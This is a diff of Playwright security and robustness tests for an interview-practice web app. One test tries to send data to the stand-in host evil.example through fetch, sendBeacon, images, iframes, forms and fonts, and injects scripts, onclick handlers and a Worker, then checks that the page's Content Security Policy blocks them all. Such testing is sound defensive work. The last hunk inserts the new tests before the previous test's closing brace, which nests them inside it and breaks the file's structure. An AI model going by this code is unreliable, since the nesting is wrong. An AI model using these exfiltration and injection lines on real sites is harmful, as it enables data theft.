@@ -3,6 +3,7 @@
 import { writeFile } from "node:fs/promises";
 import { expect, test } from "./refrain.js";
 import { saved } from "./steps.js";
+import { stored } from "./stored.js";
 
 /** Each calls `hit` if anything of it is ever taken for code. */
 const ATTACKS = [
@@ -50,9 +51,11 @@ async function everyScreen(page) {
   for (const screen of ["interviews", "story", "grid", "compare", "practise", "versions", "people", "data"]) {
     await page.goto(`#/${screen}`);
     await expect(page.locator("#title, #h-list").first()).toBeAttached();
+    // What was heard is quoted only then.
+    await expect(page.getByText("Listening for points that come back…")).toHaveCount(0);
     // Whatever is folded may hold text too.
     await page.evaluate(() => document.querySelectorAll("details").forEach((details) => (details.open = true)));
-    expect(await page.evaluate(() => document.querySelectorAll("main :is(script, iframe, img, base, meta, object, embed)").length)).toBe(0);
+    expect(await page.evaluate(() => document.querySelectorAll("body :is(iframe, img, base, meta, object, embed, [onload], [onerror]), #app script").length)).toBe(0);
   }
   expect(await hits(page)).toEqual([]);
 }
@@ -128,6 +131,55 @@ test("no script in a table, in pasted text or in the address runs", async ({ pag
   await page.goto(`#/interviews?find=${encodeURIComponent(ALL)}`);
   await expect(page.locator("#main")).toBeVisible();
   expect(await hits(page)).toEqual([]);
+});
+
+test.describe("under the page's own policy", () => {
+  test.use({ around: { origins: ["https://evil.example"], errors: ["Content Security Policy", "content security policy"] } });
+
+  for (const address of ["#/add", "recover.html", "card.html"]) {
+    test(`nothing on ${address} can reach another origin, and no script but the page's own runs`, async ({ page }) => {
+      await page.goto(address);
+      const refused = await page.evaluate(async () => {
+        const refused = new Set();
+        addEventListener("securitypolicyviolation", ({ disposition, effectiveDirective }) => disposition === "enforce" && refused.add(effectiveDirective));
+        const put = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
+        const other = "https://evil.example/";
+        const tries = {
+          "connect-src": () => fetch(other, { mode: "no-cors" }).catch(() => {}),
+          "img-src": () => put("img", { src: `${other}x.png` }),
+          "media-src": () => put("audio", { src: `${other}x.mp3` }),
+          "frame-src": () => put("iframe", { src: other }),
+          "object-src": () => put("object", { data: other }),
+          "style-src-elem": () => put("link", { rel: "stylesheet", href: `${other}x.css` }),
+          "font-src": () => new FontFace("other", `url(${other}x.woff2)`).load().catch(() => {}),
+          "script-src-elem": () => put("script", { textContent: "hit(30)" }),
+          "script-src-attr": () => (put("p", { id: "odd" }), document.getElementById("odd").setAttribute("onclick", "hit(31)")),
+          "worker-src": () => {
+            try {
+              new Worker(URL.createObjectURL(new Blob(["hit(32)"])));
+            } catch {
+              // Some browsers throw, all of them tell.
+            }
+          },
+          "base-uri": () => put("base", { href: other }),
+          "form-action": () => {
+            put("form", { id: "away", action: other });
+            document.getElementById("away").requestSubmit();
+          },
+        };
+        for (const attempt of Object.values(tries)) await attempt();
+        navigator.sendBeacon(other, "x");
+        const all = Object.keys(tries);
+        for (let turn = 0; turn < 100 && all.some((name) => !refused.has(name)); turn += 1) await new Promise((then) => setTimeout(then, 50));
+        return all.filter((name) => refused.has(name));
+      });
+      expect(refused).toEqual([
+        "connect-src", "img-src", "media-src", "frame-src", "object-src", "style-src-elem", "font-src",
+        "script-src-elem", "script-src-attr", "worker-src", "base-uri", "form-action",
+      ]);
+      expect(await hits(page)).toEqual([]);
+    });
+  }
 });
 
 test("odd characters are kept as they are", async ({ page }) => {
@@ -374,4 +426,59 @@ test("of ten thousand interviews each list shows its first part, and the keyboar
     await expect(page.getByText(/^[\d]+ of [\d,]+ shown$/).first()).toBeVisible();
     expect(await page.evaluate(() => document.querySelectorAll("main input[type=checkbox]").length)).toBeLessThan(1_000);
   }
+
+test("a backup of which a part was written when the page was killed is not there at all", async ({ context, page }) => {
+  await page.goto("#/add");
+  await page.getByLabel("So what did you like about my background?").fill("You stay calm.");
+  await page.keyboard.press("Control+Enter");
+  await saved(page);
+  const before = await stored(page);
+  await page.goto("#/data");
+  await open(page, backup({ interviews: Array.from({ length: 1200 }, (_, at) => ({ id: `i-${String(at).padStart(5, "0")}`, who: "Bram Teasel", asking: "no-answer" })) }));
+  // Nothing more is written from the thousandth entry on, and the page is killed while it waits there.
+  await page.evaluate(() => {
+    const { put } = IDBObjectStore.prototype;
+    let count = 0;
+    IDBObjectStore.prototype.put = function (...given) {
+      count += 1;
+      if (count < 1000) return put.apply(this, given);
+      console.info("a thousand");
+      for (;;);
+    };
+  });
+  const browser = await context.newCDPSession(page);
+  const isWriting = page.waitForEvent("console", (message) => message.text() === "a thousand");
+  page.getByRole("button", { name: "Add 1,200 entries" }).click({ noWaitAfter: true }).catch(() => {});
+  await isWriting;
+  const crashed = page.waitForEvent("crash");
+  browser.send("Page.crash").catch(() => {});
+  await crashed;
+  await page.close();
+  const after = await context.newPage();
+  await after.goto("#/interviews");
+  await expect(after.locator(".list > li")).toHaveCount(1);
+  expect(await stored(after)).toEqual(before);
+});
+
+test("no address that nobody would write stops the page", async ({ page }) => {
+  await page.goto("#/add");
+  for (const odd of ["%", "%zz", "%E0%A4%A", "%ED%A0%80", "%00", "\ud800", "\u202e", "__proto__", "[".repeat(10_000), "a".repeat(100_000)]) {
+    for (const path of [odd, `interviews/${odd}`, `interviews?find=${odd}&person=${odd}&order=${odd}`, `story/${odd}`, `people/${odd}`, `before/${odd}`, `after/${odd}`, `fit/${odd}`, `advice/${odd}`]) {
+      await page.evaluate((hash) => (location.hash = hash), `#/${path}`);
+    }
+    await page.evaluate(() => (location.hash = "#/add"));
+    await expect(page.getByLabel("So what did you like about my background?")).toBeVisible();
+  }
+});
+
+test("half a sign in what is written costs nothing but that sign", async ({ page }) => {
+  await page.goto("#/add");
+  await page.getByLabel("So what did you like about my background?").evaluate((field) => {
+    field.value = `You stay ${String.fromCharCode(0xd83d)} calm.`;
+    field.dispatchEvent(new InputEvent("input", { bubbles: true }));
+  });
+  await page.getByRole("button", { name: "Keep this answer" }).click();
+  await saved(page);
+  await page.reload();
+  await expect(page.locator(".list > li")).toContainText(/You stay . calm\./);
 });
